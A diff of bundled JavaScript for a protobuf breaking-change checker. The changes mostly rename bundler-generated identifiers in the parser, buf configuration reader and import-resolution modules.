     "use strict";
     LONGEST_LINE = 2e3;
     isComment = (rest) => /^\s*(?:\/\/.*)?$/.test(rest);
-    indentOf = (line2) => /^[ \t]*/.exec(line2)?.[0] ?? "";
+    indentOf2 = (line2) => /^[ \t]*/.exec(line2)?.[0] ?? "";
     JSON_NAME = /json_name\s*=\s*(?:"[^"\n]*"|'[^'\n]*')/;
   }
 });
@@ -51669,7 +57802,7 @@ function extended({ file: file2, reservedStatements }, statements) {
   const [start2, end] = [startOfLine(file2.text, first.start), endOfLine(file2.text, last2.end)];
   const isLast = isComment(file2.text.slice(last2.end, end));
   const gap = isLast ? `
-${indentOf(file2.text.slice(start2, first.start))}` : " ";
+${indentOf2(file2.text.slice(start2, first.start))}` : " ";
   const insertions = taking.map(({ wanted, into }) => {
     if (into !== void 0) return { at: into.end - 1, text: `, ${wanted.items}` };
     return { at: isLast ? end : last2.end, text: `${gap}${wanted.text}` };
@@ -51689,7 +57822,7 @@ function opened2({ file: file2, span, bodyAt }, statements) {
   const opening3 = file2.text.slice(startOfLine(file2.text, span.start), bodyAt);
   if (opening3.includes("\n")) return {};
   const rest = file2.text.slice(bodyAt, endOfLine(file2.text, bodyAt));
-  const indent = indentOf(opening3);
+  const indent = indentOf2(opening3);
   const added2 = statements.map(({ text: text4 }) => `${indent}  ${text4}`).join("\n");
   return {
     edit: isComment(rest) ? `${opening3}${rest}
@@ -51863,7 +57996,7 @@ function compareStrictness(owner) {
     };
   });
 }
-var isOpen5, textOf5, renamed, isStrict, declarationsOf, DECLARATION2, declarationsIn, declarationAt, bare2;
+var isOpen5, textOf5, renamed, isStrict, declarationsOf, DECLARATION2, declarationsIn, declarationAt, bare3;
 var init_declarations = __esm({
   "src/domains/protobuf/diff/declarations.ts"() {
     "use strict";
@@ -51876,19 +58009,19 @@ var init_declarations = __esm({
     isStrict = (range3) => range3.options.get("verification")?.value === "DECLARATION" || declarationsIn(range3).length > 0;
     declarationsOf = ({ extensionRanges }) => new Map(extensionRanges.flatMap(declarationsIn).map((one) => [one.number, one]));
     DECLARATION2 = /^(declaration(?:\[\d+\])?)\.number$/;
-    declarationsIn = ({ options: options2 }) => [...options2].flatMap(([path25, number3]) => {
-      const [, prefix2] = DECLARATION2.exec(path25) ?? [];
+    declarationsIn = ({ options: options2 }) => [...options2].flatMap(([path26, number3]) => {
+      const [, prefix2] = DECLARATION2.exec(path26) ?? [];
       return prefix2 === void 0 ? [] : [declarationAt(number3, (name) => options2.get(`${prefix2}.${name}`)?.value ?? "")];
     });
     declarationAt = ({ value, line: line2 }, option2) => ({
       number: Number(value),
       line: line2,
-      name: bare2(option2("full_name")),
-      type: bare2(option2("type")),
+      name: bare3(option2("full_name")),
+      type: bare3(option2("type")),
       repeated: option2("repeated") === "true",
       retired: option2("reserved") === "true"
     });
-    bare2 = (value) => unquote(value).replace(/^\./, "");
+    bare3 = (value) => unquote(value).replace(/^\./, "");
   }
 });
 
@@ -52075,7 +58208,7 @@ function feltTogether(changes) {
 }
 function causeOf2({ before: before3, after: after2 }) {
   const sameEdition = before3.edition === after2.edition;
-  const [from3, to2] = sameEdition ? ["file features", "file features"] : [nameOf8(before3), nameOf8(after2)];
+  const [from3, to2] = sameEdition ? ["file features", "file features"] : [nameOf9(before3), nameOf9(after2)];
   const kind = "semantics-changed";
   return {
     kind,
@@ -52086,14 +58219,14 @@ function causeOf2({ before: before3, after: after2 }) {
     felt: true
   };
 }
-var groupOf3, nameOf8;
+var groupOf3, nameOf9;
 var init_semantics = __esm({
   "src/domains/protobuf/diff/semantics.ts"() {
     "use strict";
     init_features();
     init_context2();
     groupOf3 = ({ group: group5 }) => group5;
-    nameOf8 = ({ edition }) => edition.startsWith("proto") ? edition : `edition ${edition}`;
+    nameOf9 = ({ edition }) => edition.startsWith("proto") ? edition : `edition ${edition}`;
   }
 });
 
@@ -52269,7 +58402,7 @@ var init_unit = __esm({
     "use strict";
     unitsOf = (file2) => file2 === void 0 ? [] : [...file2.messages, ...file2.enums, ...file2.services, ...file2.extensions];
     namesOf6 = (units) => units.map(({ name }) => name);
-    packageLineOf = ({ path: path25, packageLine }) => ({ path: path25, line: packageLine });
+    packageLineOf = ({ path: path26, packageLine }) => ({ path: path26, line: packageLine });
   }
 });
 
@@ -53020,16 +59153,16 @@ var init_file_options = __esm({
       ["swift_prefix", ""]
     ]);
     valueOf5 = ({ options: options2 }, name, absent2) => unquote(options2.get(name)?.value ?? absent2);
-    lineOf4 = ({ path: path25, options: options2, packageLine }, names4) => ({
-      path: path25,
+    lineOf4 = ({ path: path26, options: options2, packageLine }, names4) => ({
+      path: path26,
       line: names4.map((name) => options2.get(name)?.line).find((line2) => line2 !== void 0) ?? packageLine
     });
   }
 });
 
 // src/domains/protobuf/paths.ts
-function join6(folder, path25) {
-  const clean = path25.replace(/^(?:\.\/)+/, "").replace(/\/+$/, "");
+function join6(folder, path26) {
+  const clean = path26.replace(/^(?:\.\/)+/, "").replace(/\/+$/, "");
   if (clean === "." || clean === "") return folder;
   return folder === "" ? clean : `${folder}/${clean}`;
 }
@@ -53038,14 +59171,14 @@ function sharedLength(a, b3) {
   while (at5 < a.length && a[at5] === b3[at5]) at5++;
   return at5;
 }
-var parentOf2, nameOf9, lastWord, isWithin4;
+var parentOf2, nameOf10, lastWord, isWithin4;
 var init_paths4 = __esm({
   "src/domains/protobuf/paths.ts"() {
     "use strict";
-    parentOf2 = (path25) => path25.slice(0, Math.max(path25.lastIndexOf("/"), 0));
-    nameOf9 = (path25) => path25.slice(path25.lastIndexOf("/") + 1);
+    parentOf2 = (path26) => path26.slice(0, Math.max(path26.lastIndexOf("/"), 0));
+    nameOf10 = (path26) => path26.slice(path26.lastIndexOf("/") + 1);
     lastWord = (name) => name.slice(name.lastIndexOf(".") + 1);
-    isWithin4 = (path25, folder) => folder === "" || path25 === folder || path25.startsWith(`${folder}/`);
+    isWithin4 = (path26, folder) => folder === "" || path26 === folder || path26.startsWith(`${folder}/`);
   }
 });
 
@@ -53274,14 +59407,14 @@ var init_tokens3 = __esm({
 });
 
 // src/domains/protobuf/parser/cursor.ts
-var DEEPEST8, LONGEST_QUOTE, Cursor2, integerOf;
+var DEEPEST9, LONGEST_QUOTE, Cursor2, integerOf;
 var init_cursor2 = __esm({
   "src/domains/protobuf/parser/cursor.ts"() {
     "use strict";
     init_errors();
     init_present();
     init_tokens3();
-    DEEPEST8 = 100;
+    DEEPEST9 = 100;
     LONGEST_QUOTE = 40;
     Cursor2 = class {
       #tokens;
@@ -53378,9 +59511,9 @@ var init_cursor2 = __esm({
       }
       /** Runs a parser one level deeper. */
       nested(parse8) {
-        if (++this.#depth > DEEPEST8) {
+        if (++this.#depth > DEEPEST9) {
           const { line: line2 } = this;
-          throw new Unreadable(`line ${line2}: nested deeper than ${DEEPEST8} levels`, line2);
+          throw new Unreadable(`line ${line2}: nested deeper than ${DEEPEST9} levels`, line2);
         }
         const result = parse8();
         this.#depth--;
@@ -53433,9 +59566,9 @@ function parseBracketOptions(cursor) {
 function parseOption(cursor, options2) {
   const name = optionName(cursor);
   cursor.expect("=");
-  const path25 = options2.claim(name, cursor);
-  if (cursor.is("{")) aggregate2(cursor, options2, path25);
-  else scalar2(cursor, options2, path25);
+  const path26 = options2.claim(name, cursor);
+  if (cursor.is("{")) aggregate2(cursor, options2, path26);
+  else scalar2(cursor, options2, path26);
 }
 function optionName(cursor) {
   const parts = [];
@@ -53447,9 +59580,9 @@ function optionName(cursor) {
   } while (cursor.accept("."));
   return parts.join(".");
 }
-function scalar2(cursor, options2, path25) {
+function scalar2(cursor, options2, path26) {
   const { line: line2 } = cursor;
-  options2.put(path25, scalarText(cursor), line2);
+  options2.put(path26, scalarText(cursor), line2);
 }
 function scalarText(cursor) {
   if (cursor.kind === "string") return JSON.stringify(cursor.string("a value"));
@@ -53462,16 +59595,16 @@ function canonicalNumber(text4) {
   const value = /^0[0-7]+$/.test(text4) ? Number.parseInt(text4, 8) : Number(text4.replace(/[fF]$/, ""));
   return Number.isNaN(value) || Number.isInteger(value) && !Number.isSafeInteger(value) ? text4 : String(value);
 }
-function aggregate2(cursor, options2, path25) {
+function aggregate2(cursor, options2, path26) {
   const { line: line2 } = cursor;
   const close = cursor.next() === "<" ? ">" : "}";
-  if (cursor.is(close)) options2.put(path25, "{}", line2);
+  if (cursor.is(close)) options2.put(path26, "{}", line2);
   cursor.nested(() => {
     while (!cursor.accept(close)) {
       const name = aggregateName(cursor);
       const colon = cursor.accept(":");
       if (!colon && !opensMessage(cursor) && !cursor.is("[")) cursor.fail('":"');
-      fieldValue(cursor, options2, `${path25}.${name}`);
+      fieldValue(cursor, options2, `${path26}.${name}`);
       if (!cursor.accept(",")) cursor.accept(";");
     }
   });
@@ -53483,17 +59616,17 @@ function aggregateName(cursor) {
   cursor.expect("]");
   return `(${name})`;
 }
-function fieldValue(cursor, options2, path25) {
-  if (opensMessage(cursor)) aggregate2(cursor, options2, options2.claim(path25, cursor));
-  else if (cursor.is("[")) list(cursor, options2, path25);
-  else scalar2(cursor, options2, options2.claim(path25, cursor));
+function fieldValue(cursor, options2, path26) {
+  if (opensMessage(cursor)) aggregate2(cursor, options2, options2.claim(path26, cursor));
+  else if (cursor.is("[")) list(cursor, options2, path26);
+  else scalar2(cursor, options2, options2.claim(path26, cursor));
 }
-function list(cursor, options2, path25) {
+function list(cursor, options2, path26) {
   cursor.expect("[");
   if (cursor.accept("]")) return;
   cursor.nested(() => {
     do
-      fieldValue(cursor, options2, path25);
+      fieldValue(cursor, options2, path26);
     while (cursor.accept(","));
   });
   cursor.expect("]");
@@ -53511,16 +59644,16 @@ var init_options = __esm({
         return this.#values ?? NO_OPTIONS;
       }
       /** The name under which one more value of a path is kept. */
-      claim(path25, cursor) {
-        if (path25.length > LONGEST_PATH) cursor.fail("fewer or shorter names in one option");
+      claim(path26, cursor) {
+        if (path26.length > LONGEST_PATH) cursor.fail("fewer or shorter names in one option");
         this.#seen ??= /* @__PURE__ */ new Map();
-        const times = this.#seen.get(path25) ?? 0;
-        this.#seen.set(path25, times + 1);
-        return times === 0 ? path25 : `${path25}[${times}]`;
+        const times = this.#seen.get(path26) ?? 0;
+        this.#seen.set(path26, times + 1);
+        return times === 0 ? path26 : `${path26}[${times}]`;
       }
-      put(path25, value, line2) {
+      put(path26, value, line2) {
         this.#values ??= /* @__PURE__ */ new Map();
-        this.#values.set(path25, { value, line: line2 });
+        this.#values.set(path26, { value, line: line2 });
       }
     };
     opensMessage = (cursor) => cursor.is("{") || cursor.is("<");
@@ -53870,18 +60003,18 @@ var init_service = __esm({
 });
 
 // src/domains/protobuf/parser/file.ts
-function parseProto(text4, path25) {
-  const file2 = parseWhole(text4, path25);
+function parseProto(text4, path26) {
+  const file2 = parseWhole(text4, path26);
   if (file2.broken !== void 0) throw file2.broken;
   return file2;
 }
-function parseWhole(text4, path25) {
+function parseWhole(text4, path26) {
   const cursor = new Cursor2(text4);
   const options2 = new OptionSet();
   const imports = [];
   const sink = { messages: [], enums: [], services: [], extensions: [] };
   const file2 = {
-    path: path25,
+    path: path26,
     text: text4,
     edition: "proto2",
     editionLine: 1,
@@ -53909,8 +60042,8 @@ function parseWhole(text4, path25) {
   file2.options = options2.values;
   return file2;
 }
-function remember({ messages, enums, services, extensions }) {
-  const lengths = [messages, enums, services, extensions].map((list3) => ({ list: list3, length: list3.length }));
+function remember({ messages: messages2, enums, services, extensions }) {
+  const lengths = [messages2, enums, services, extensions].map((list3) => ({ list: list3, length: list3.length }));
   return () => {
     for (const { list: list3, length } of lengths) list3.length = length;
   };
@@ -53998,10 +60131,10 @@ function meanings(type, { parent, file: file2 }) {
     names4.push(`${scope2}.${type}`);
   return [...names4, type];
 }
-async function parseUnchanged(tree2, path25) {
+async function parseUnchanged(tree2, path26) {
   try {
-    const text4 = await tree2.read(path25);
-    return text4 === void 0 ? void 0 : parseProto(text4, path25);
+    const text4 = await tree2.read(path26);
+    return text4 === void 0 ? void 0 : parseProto(text4, path26);
   } catch (error) {
     if (error instanceof Unreadable) return void 0;
     throw error;
@@ -54070,32 +60203,32 @@ var init_symbols = __esm({
         this.#visible.set(file2, visible2);
         const queue = [file2];
         for (let next = queue.pop(); next !== void 0; next = queue.pop()) {
-          for (const { path: path25, kind } of next.imports) {
+          for (const { path: path26, kind } of next.imports) {
             if (next !== file2 && kind !== "public") continue;
-            const imported = await this.#read(path25, next.path);
+            const imported = await this.#read(path26, next.path);
             if (imported === void 0 || visible2.has(imported)) continue;
             visible2.add(imported);
             queue.push(imported);
           }
         }
       }
-      async #read(path25, importer) {
-        const found = await this.#imports.find(path25, importer);
+      async #read(path26, importer) {
+        const found = await this.#imports.find(path26, importer);
         return found === void 0 ? void 0 : this.open(found);
       }
       /** Reads an unchanged file and makes its types known; undefined where there is none that can be read. */
-      async open(path25) {
-        if (!this.#known.has(path25)) {
-          this.#known.set(path25, void 0);
-          const file2 = await parseUnchanged(this.#tree, path25);
+      async open(path26) {
+        if (!this.#known.has(path26)) {
+          this.#known.set(path26, void 0);
+          const file2 = await parseUnchanged(this.#tree, path26);
           if (file2 !== void 0) this.#declare(file2);
         }
-        return this.#known.get(path25);
+        return this.#known.get(path26);
       }
     };
     parentScope = (scope2) => scope2.slice(0, Math.max(scope2.lastIndexOf("."), 0));
     isBeside = (found, file2) => found === file2 || file2.imports.some(
-      ({ path: path25 }) => found !== void 0 && found.path.endsWith(path25) && file2.path.startsWith(found.path.slice(0, -path25.length))
+      ({ path: path26 }) => found !== void 0 && found.path.endsWith(path26) && file2.path.startsWith(found.path.slice(0, -path26.length))
     );
   }
 });
@@ -54106,7 +60239,7 @@ var init_vendored = __esm({
   "src/domains/protobuf/vendored.ts"() {
     "use strict";
     VENDORED2 = /(?:^|\/)(?:vendor|third_party|third-party|node_modules)\//;
-    isVendored = (path25) => VENDORED2.test(path25);
+    isVendored = (path26) => VENDORED2.test(path26);
   }
 });
 
@@ -54339,20 +60472,20 @@ var init_moved_units = __esm({
 
 // src/domains/protobuf/diff/rpc-messages.ts
 function messagesOfRpcs(followers) {
-  const messages = /* @__PURE__ */ new Map();
+  const messages2 = /* @__PURE__ */ new Map();
   for (const [unit, leader] of followers)
-    if (unit.kind === "message" && leader.kind === "rpc-removed") messages.set(unit, leader);
-  return messages;
+    if (unit.kind === "message" && leader.kind === "rpc-removed") messages2.set(unit, leader);
+  return messages2;
 }
-function withMessages(changes, messages) {
-  const byFinding = gather2([...messages], ([, rpc]) => findingOf2(rpc));
+function withMessages(changes, messages2) {
+  const byFinding = gather2([...messages2], ([, rpc]) => findingOf2(rpc));
   const told4 = (rpc) => {
     const names4 = namesOf6((byFinding.get(findingOf2(rpc)) ?? []).map(([message4]) => message4));
     return { ...rpc, messages: listed9(names4, MOST_MESSAGES) };
   };
   return [
     ...changes.map((change2) => isRemovedRpc(change2) ? told4(change2) : change2),
-    ...[...messages].map(([message4, rpc]) => followed(message4, told4(rpc)))
+    ...[...messages2].map(([message4, rpc]) => followed(message4, told4(rpc)))
   ];
 }
 var MOST_MESSAGES, isRemovedRpc, findingOf2, followed;
@@ -54515,15 +60648,15 @@ function compareSchemas3(around, base, head) {
   };
   const matched = around.pairing.matched.flatMap((match2) => compareMatch(match2, context));
   const followers = followersOf(matched, around);
-  const messages = messagesOfRpcs(followers);
+  const messages2 = messagesOfRpcs(followers);
   const inBoth = around.files.flatMap(onBothSides);
   const all = optionsTogether([
     ...inBoth.flatMap(compareEdition),
     ...compareFileOptions(inBoth),
     ...inBoth.flatMap(compareCustomFileOptions),
     ...compareMoved(around, moves),
-    ...compareRemovedUnits(around, followers, messages),
-    ...withMessages(matched, messages)
+    ...compareRemovedUnits(around, followers, messages2),
+    ...withMessages(matched, messages2)
   ]);
   return feltTogether(all);
 }
@@ -54730,9 +60863,9 @@ var init_pair2 = __esm({
 });
 
 // src/domains/protobuf/buf/yaml.ts
-async function readYaml3(tree2, path25) {
+async function readYaml3(tree2, path26) {
   try {
-    const text4 = await tree2.read(path25);
+    const text4 = await tree2.read(path26);
     return text4 === void 0 ? void 0 : (0, import_yaml8.parse)(text4, { maxAliasCount: 100 });
   } catch (error) {
     if (error instanceof Unreadable || isYamlError(error)) return void 0;
@@ -54755,23 +60888,23 @@ var init_yaml2 = __esm({
 
 // src/domains/protobuf/buf/config.ts
 async function readConfig(tree2, folder) {
-  const path25 = join6(folder, "buf.yaml");
-  const document2 = await readYaml3(tree2, path25);
-  return document2 === void 0 ? void 0 : configOf(document2, path25, folder);
+  const path26 = join6(folder, "buf.yaml");
+  const document2 = await readYaml3(tree2, path26);
+  return document2 === void 0 ? void 0 : configOf(document2, path26, folder);
 }
-function configOf(document2, path25, folder) {
+function configOf(document2, path26, folder) {
   const modules = modulesOf(document2, folder);
   const moduleOf2 = (file2) => modules.filter(({ root }) => isWithin4(file2, root)).toSorted((a, b3) => b3.root.length - a.root.length)[0];
   const common = breakingOf(document2, folder);
   return {
-    path: path25,
+    path: path26,
     roots: modules.map(({ root }) => root),
-    leavesOut: (file2) => !holds3(moduleOf2(file2), file2),
+    leavesOut: (file2) => !holds4(moduleOf2(file2), file2),
     breakingOf: (file2) => moduleOf2(file2)?.breaking ?? common
   };
 }
 function modulesOf(document2, folder) {
-  const inFolder = (path25) => join6(folder, text2(path25));
+  const inFolder = (path26) => join6(folder, text2(path26));
   const listed10 = list2(get(document2, "modules")).map((module) => ({
     root: inFolder(get(module, "path")),
     includes: list2(get(module, "includes")).map(inFolder),
@@ -54787,7 +60920,7 @@ function modulesOf(document2, folder) {
 function breakingOf(owner, folder) {
   const section2 = get(owner, "breaking");
   if (section2 === void 0 || section2 === null) return void 0;
-  const inFolder = (path25) => join6(folder, text2(path25));
+  const inFolder = (path26) => join6(folder, text2(path26));
   const only = entries(get(section2, "ignore_only"));
   return {
     use: list2(get(section2, "use")).map(text2),
@@ -54797,7 +60930,7 @@ function breakingOf(owner, folder) {
     ignoreUnstable: get(section2, "ignore_unstable_packages") === true
   };
 }
-var BufConfigs, holds3, isInAny;
+var BufConfigs, holds4, isInAny;
 var init_config = __esm({
   "src/domains/protobuf/buf/config.ts"() {
     "use strict";
@@ -54815,14 +60948,14 @@ var init_config = __esm({
         this.#known.set(folder, config3);
         return config3;
       }
-      async of(path25) {
-        for (let folder = parentOf2(path25); ; folder = parentOf2(folder)) {
+      async of(path26) {
+        for (let folder = parentOf2(path26); ; folder = parentOf2(folder)) {
           const found = await this.in(folder);
           if (found !== void 0 || folder === "") return found;
         }
       }
     };
-    holds3 = (module, file2) => module !== void 0 && (module.includes.length === 0 || isInAny(file2, module.includes)) && !isInAny(file2, module.excludes);
+    holds4 = (module, file2) => module !== void 0 && (module.includes.length === 0 || isInAny(file2, module.includes)) && !isInAny(file2, module.excludes);
     isInAny = (file2, folders) => folders.some((folder) => isWithin4(file2, folder));
   }
 });
@@ -54847,13 +60980,13 @@ var init_roots = __esm({
         this.#stated = stated.map((root) => join6("", root));
       }
       /** Those around the file first, the innermost before all; then the other modules of its workspace. */
-      async of(path25) {
+      async of(path26) {
         const all = [...this.#stated];
-        for (let folder = parentOf2(path25); ; folder = parentOf2(folder)) {
+        for (let folder = parentOf2(path26); ; folder = parentOf2(folder)) {
           all.push(...await this.#in(folder));
           if (folder === "") break;
         }
-        const around = all.filter((root) => isWithin4(path25, root)).toSorted((a, b3) => b3.length - a.length);
+        const around = all.filter((root) => isWithin4(path26, root)).toSorted((a, b3) => b3.length - a.length);
         return [.../* @__PURE__ */ new Set([...around, ...all])];
       }
       #in(folder) {
@@ -54867,8 +61000,8 @@ var init_roots = __esm({
         const work = await readYaml3(this.#tree, join6(folder, "buf.work.yaml"));
         const generate = await readYaml3(this.#tree, join6(folder, "buf.gen.yaml"));
         const inputs = list2(get(generate, "inputs")).map((input2) => get(input2, "directory"));
-        const named6 = [...list2(get(work, "directories")), ...inputs].map(text2).filter((path25) => path25 !== "");
-        return [...config3?.roots ?? [], ...named6.map((path25) => join6(folder, path25))];
+        const named6 = [...list2(get(work, "directories")), ...inputs].map(text2).filter((path26) => path26 !== "");
+        return [...config3?.roots ?? [], ...named6.map((path26) => join6(folder, path26))];
       }
     };
   }
@@ -54887,9 +61020,9 @@ async function withoutExcluded(input2) {
   const left = new Set(excluded.map(({ file: file2 }) => file2));
   return { files: input2.files.filter((file2) => !left.has(file2)), excluded: told3(excluded) };
 }
-async function excluderOf(path25, configs) {
-  const config3 = await configs.of(path25);
-  return config3?.leavesOut(path25) === true ? config3.path : void 0;
+async function excluderOf(path26, configs) {
+  const config3 = await configs.of(path26);
+  return config3?.leavesOut(path26) === true ? config3.path : void 0;
 }
 var told3;
 var init_excluded = __esm({
@@ -54900,10 +61033,10 @@ var init_excluded = __esm({
     init_together();
     told3 = (excluded) => [...gather2(excluded, ({ config: config3 }) => config3)].flatMap(([config3, all]) => {
       const names4 = listed9(all.map(({ file: file2 }) => file2.path));
-      return all.map(({ file: { path: path25, status } }) => {
-        const place5 = { path: path25, line: 1 };
+      return all.map(({ file: { path: path26, status } }) => {
+        const place5 = { path: path26, line: 1 };
         const side3 = status === "deleted" ? { before: place5 } : { after: place5 };
-        return { kind: "file-excluded", subject: path25, group: config3, ...side3, config: config3, count: all.length, all: names4 };
+        return { kind: "file-excluded", subject: path26, group: config3, ...side3, config: config3, count: all.length, all: names4 };
       });
     });
   }
@@ -54912,11 +61045,11 @@ var init_excluded = __esm({
 // src/domains/protobuf/imports.ts
 async function listProtos(tree2) {
   const byName3 = /* @__PURE__ */ new Map();
-  for (const path25 of await tree2.list()) {
-    if (!path25.endsWith(".proto")) continue;
-    const same = byName3.get(nameOf9(path25));
-    if (same) same.push(path25);
-    else byName3.set(nameOf9(path25), [path25]);
+  for (const path26 of await tree2.list()) {
+    if (!path26.endsWith(".proto")) continue;
+    const same = byName3.get(nameOf10(path26));
+    if (same) same.push(path26);
+    else byName3.set(nameOf10(path26), [path26]);
   }
   return byName3;
 }
@@ -54934,12 +61067,12 @@ var init_imports = __esm({
         this.#roots = roots;
       }
       /** The repository path of an imported file: below a root, else the path with that end that is nearest the importer. */
-      async find(path25, importer) {
-        const candidates = (await this.#names()).get(nameOf9(path25)) ?? [];
-        const matching = candidates.filter((candidate) => candidate === path25 || candidate.endsWith(`/${path25}`));
+      async find(path26, importer) {
+        const candidates = (await this.#names()).get(nameOf10(path26)) ?? [];
+        const matching = candidates.filter((candidate) => candidate === path26 || candidate.endsWith(`/${path26}`));
         if (matching.length < 2) return matching[0];
         for (const root of await this.#roots.of(importer)) {
-          const rooted = root === "" ? path25 : `${root}/${path25}`;
+          const rooted = root === "" ? path26 : `${root}/${path26}`;
           if (matching.includes(rooted)) return rooted;
         }
         const nearness = (candidate) => sharedLength(candidate, importer);
@@ -54966,28 +61099,28 @@ async function importersOf(lost, paths3, tree2) {
   const known3 = new Names();
   for (let at5 = 0; at5 < searched.length; at5 += AT_ONCE4) {
     const some2 = searched.slice(at5, at5 + AT_ONCE4);
-    const texts2 = await Promise.all(some2.map((path25) => textOf6(path25, tree2)));
-    for (const [index, path25] of some2.entries()) imports.set(path25, importsIn(texts2[index] ?? "", known3));
+    const texts2 = await Promise.all(some2.map((path26) => textOf6(path26, tree2)));
+    for (const [index, path26] of some2.entries()) imports.set(path26, importsIn(texts2[index] ?? "", known3));
   }
   const sought = handedOn(lost, imports);
-  const found = searched.filter((path25) => imports.get(path25)?.some((one) => sought.includes(one.path)));
+  const found = searched.filter((path26) => imports.get(path26)?.some((one) => sought.includes(one.path)));
   return { paths: found.slice(0, MOST_FOUND), unsearched: near.length - searched.length };
 }
 function nearestFirst(paths3, to2) {
-  const nearness = new Map(paths3.map((path25) => [path25, sharedLength(path25, to2)]));
+  const nearness = new Map(paths3.map((path26) => [path26, sharedLength(path26, to2)]));
   return paths3.toSorted((a, b3) => (nearness.get(b3) ?? 0) - (nearness.get(a) ?? 0));
 }
 function importsIn(text4, names4) {
-  return Array.from(text4.matchAll(IMPORT), ([, kind, path25 = ""]) => ({
-    path: names4.of(path25),
+  return Array.from(text4.matchAll(IMPORT), ([, kind, path26 = ""]) => ({
+    path: names4.of(path26),
     isPublic: kind === "public"
   }));
 }
 function handedOn(lost, imports) {
   const sought = new Sought();
-  for (const path25 of lost) sought.add(path25);
+  for (const path26 of lost) sought.add(path26);
   const handing = [...imports].flatMap(
-    ([path25, all]) => all.filter(({ isPublic }) => isPublic).map((one) => ({ from: one.path, to: path25 }))
+    ([path26, all]) => all.filter(({ isPublic }) => isPublic).map((one) => ({ from: one.path, to: path26 }))
   );
   for (let grows = true; grows; ) {
     grows = false;
@@ -54995,9 +61128,9 @@ function handedOn(lost, imports) {
   }
   return sought;
 }
-async function textOf6(path25, tree2) {
+async function textOf6(path26, tree2) {
   try {
-    return await tree2.read(path25) ?? "";
+    return await tree2.read(path26) ?? "";
   } catch (error) {
     if (error instanceof Unreadable) return "";
     throw error;
@@ -55024,15 +61157,15 @@ var init_importers = __esm({
     Sought = class {
       #byName = /* @__PURE__ */ new Map();
       /** False where it was known. */
-      add(path25) {
-        const same = this.#byName.get(nameOf9(path25)) ?? /* @__PURE__ */ new Set();
-        if (same.has(path25)) return false;
-        this.#byName.set(nameOf9(path25), same.add(path25));
+      add(path26) {
+        const same = this.#byName.get(nameOf10(path26)) ?? /* @__PURE__ */ new Set();
+        if (same.has(path26)) return false;
+        this.#byName.set(nameOf10(path26), same.add(path26));
         return true;
       }
       includes(imported) {
-        const same = this.#byName.get(nameOf9(imported));
-        return same !== void 0 && [...same].some((path25) => path25 === imported || path25.endsWith(`/${imported}`));
+        const same = this.#byName.get(nameOf10(imported));
+        return same !== void 0 && [...same].some((path26) => path26 === imported || path26.endsWith(`/${imported}`));
       }
     };
   }
@@ -55042,10 +61175,10 @@ var init_importers = __esm({
 async function lostImports(files4, base, head) {
   const lost = [];
   for (const file2 of files4) {
-    for (const { path: path25, line: line2 } of file2.imports) {
-      if (await head.find(path25, file2.path) !== void 0) continue;
-      const old = await base.find(path25, file2.path);
-      if (old !== void 0) lost.push(importLost(file2, path25, line2, isVendored(old)));
+    for (const { path: path26, line: line2 } of file2.imports) {
+      if (await head.find(path26, file2.path) !== void 0) continue;
+      const old = await base.find(path26, file2.path);
+      if (old !== void 0) lost.push(importLost(file2, path26, line2, isVendored(old)));
     }
   }
   const byName3 = gather2(lost, ({ name }) => name);
@@ -55093,8 +61226,8 @@ var init_lost_types = __esm({
     goneTypes = ({ removed: removed3, matched }) => new Map(
       [...removed3, ...matched.filter(({ before: before3, after: after2 }) => before3.fullName !== after2.fullName).map((m3) => m3.before)].filter(({ kind }) => kind === "message" || kind === "enum").map(({ fullName, file: file2 }) => [fullName, file2.path])
     );
-    usesIn2 = ({ messages, extensions, services }) => [
-      ...[...messages.flatMap(({ fields }) => fields), ...extensions].filter(({ type, group: group5 }) => !group5 && !isScalar3(type)).map((by) => ({ type: by.type, by })),
+    usesIn2 = ({ messages: messages2, extensions, services }) => [
+      ...[...messages2.flatMap(({ fields }) => fields), ...extensions].filter(({ type, group: group5 }) => !group5 && !isScalar3(type)).map((by) => ({ type: by.type, by })),
       ...services.flatMap(({ rpcs }) => rpcs.flatMap((by) => [by.request, by.response].map((type) => ({ type, by }))))
     ];
     typeLost = (subject, by) => ({
@@ -55117,20 +61250,20 @@ async function whatIsLost({ files: files4, pairing }, base, head, input2) {
   );
   const sources = [.../* @__PURE__ */ new Set([...wentAway, ...types.values()])];
   if (sources.length === 0) return [];
-  const changed4 = new Set(input2.files.map(({ path: path25 }) => path25));
-  const unchanged2 = (await head.imports.all()).filter((path25) => !changed4.has(path25));
+  const changed4 = new Set(input2.files.map(({ path: path26 }) => path26));
+  const unchanged2 = (await head.imports.all()).filter((path26) => !changed4.has(path26));
   const { paths: paths3, unsearched } = await importersOf(sources, unchanged2, input2.head);
   const users = [...files4.flatMap(({ after: after2 }) => after2 ?? []), ...await opened3(paths3, base.symbols, head.symbols)];
   const imports = wentAway.length === 0 ? [] : await lostImports(users, base.imports, head.imports);
   const broken3 = new Set(imports.map(({ subject }) => subject));
-  const whole4 = users.filter(({ path: path25 }) => !broken3.has(path25));
+  const whole4 = users.filter(({ path: path26 }) => !broken3.has(path26));
   return [...imports, ...await lostTypes(whole4, types, base.symbols, head.symbols), ...cutShort(sources, unsearched)];
 }
 async function opened3(paths3, base, head) {
   const files4 = [];
-  for (const path25 of paths3) {
-    const file2 = await head.open(path25);
-    await base.open(path25);
+  for (const path26 of paths3) {
+    const file2 = await head.open(path26);
+    await base.open(path26);
     if (file2 !== void 0) files4.push(file2);
   }
   return files4;
@@ -55245,7 +61378,7 @@ var init_rules3 = __esm({
       { categories: ["WIRE"], rules: ["FIELD_WIRE_COMPATIBLE_CARDINALITY", "FIELD_WIRE_COMPATIBLE_TYPE"] }
     ];
     BUF_RULES = new Map(
-      RULE_SETS.flatMap(({ categories, rules: rules7 }) => rules7.map((rule) => [rule, categories]))
+      RULE_SETS.flatMap(({ categories, rules: rules8 }) => rules8.map((rule) => [rule, categories]))
     );
     USES_OF_A_TYPE = [
       "buf:FIELD_SAME_TYPE",
@@ -55258,11 +61391,11 @@ var init_rules3 = __esm({
 });
 
 // src/domains/protobuf/buf/opinion.ts
-function opinionOn(path25, config3) {
-  const breaking = config3?.breakingOf(path25);
+function opinionOn(path26, config3) {
+  const breaking = config3?.breakingOf(path26);
   if (config3 === void 0 || breaking === void 0) return void 0;
-  const ignored = breaking.ignore.some((folder) => isWithin4(path25, folder));
-  const off = switchedOff2(path25, breaking);
+  const ignored = breaking.ignore.some((folder) => isWithin4(path26, folder));
+  const off = switchedOff2(path26, breaking);
   return {
     config: config3.path,
     ...ignored ? { ignored } : {},
@@ -55285,9 +61418,9 @@ var init_opinion = __esm({
     "use strict";
